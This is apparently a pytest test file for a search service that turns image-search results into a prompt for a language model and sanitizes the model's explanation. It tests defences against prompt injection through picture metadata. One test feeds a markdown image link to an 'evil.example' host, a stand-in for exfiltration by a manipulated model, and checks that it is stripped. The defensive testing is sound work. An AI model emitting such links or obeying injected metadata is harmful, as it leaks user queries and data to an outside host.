"""What a language model is asked."""

import json

import pytest

from service.explain import ExplanationUnavailable, explanation_of, prompt_of
from tests.service.hostile import CASES, SECRET, answer_with
from tests.service.test_plain_text import is_visible

LISTED = {"rank", "score", "file_name", "category", "title", "tags"}
LARGEST = 16 * 1024


def strings(value) -> list[str]:
    if isinstance(value, dict):
        return [text for each in value.values() for text in strings(each)]
    return [text for each in value for text in strings(each)] if isinstance(value, list) else [value] if isinstance(value, str) else []


def test_the_question_and_the_best_five():
    """Rank, score and the listed fields; the query as it was asked."""
    data = json.loads(prompt_of(answer_with("Red heart", "title")).data)
    assert data["query"] == "red heart"
    assert [result["rank"] for result in data["results"]] == [1, 2, 3, 4, 5]
    first = {"rank": 1, "score": 0.3, "file_name": "heart.png", "category": "symbols", "title": "Red heart", "tags": ["heart"]}
    assert data["results"][0] == first


@pytest.mark.parametrize(("text", "place"), CASES)
@pytest.mark.fault("F-13")
def test_hostile_metadata_goes_nowhere(text: str, place: str):
    """Whatever a picture brings along: only listed fields go out, short, visible, and as data that cannot end itself."""
    prompt = prompt_of(answer_with(text, place))
    data = json.loads(prompt.data)
    assert set(data) == {"query", "results"}
    assert all(set(result) <= LISTED for result in data["results"])
    assert SECRET not in prompt.data
    assert all(is_visible(each) and len(each) <= 160 for each in strings(data))
    assert len(prompt.data.encode()) <= LARGEST
    assert prompt.system == prompt_of(answer_with("Red heart", "title")).system


@pytest.mark.parametrize("odd", [None, 3, {"a": 1}, ["x"], True])
def test_metadata_of_another_type_is_left_out(odd):
    """A collection holds whatever was indexed."""
    answer = answer_with("x", "title")
    answer["results"][0]["metadata"] = {"title": odd, "tags": "heart", "file_name": odd}
    assert json.loads(prompt_of(answer).data)["results"][0] == {"rank": 1, "score": 0.3}


def test_terms_are_named_with_their_weights():
    """A search by terms has no query; a picture is called one, without its key."""
    answer = answer_with("x", "title")
    answer |= {"query": None, "terms": [{"text": "red\u202e", "weight": 1.0}, {"key": "77", "weight": -0.5}]}
    data = json.loads(prompt_of(answer).data)
    assert data["terms"] == [{"text": "red", "weight": 1.0}, {"text": "a picture", "weight": -0.5}]


def test_what_is_said_is_made_inert_and_short():
    """The answer of a model that was talked into something is a silly sentence at worst."""
    said = explanation_of("Hearts.\n![x](https://evil.example/?q=red) " + "and more " * 1000)
    assert said.startswith("Hearts. x and more")
    assert len(said) == 1200


@pytest.mark.parametrize("said", ["", " \n", "\u200b\u202e"])
def test_nothing_said_is_no_explanation(said: str):
    """An empty text is not passed on as one."""
    with pytest.raises(ExplanationUnavailable):
        explanation_of(said)
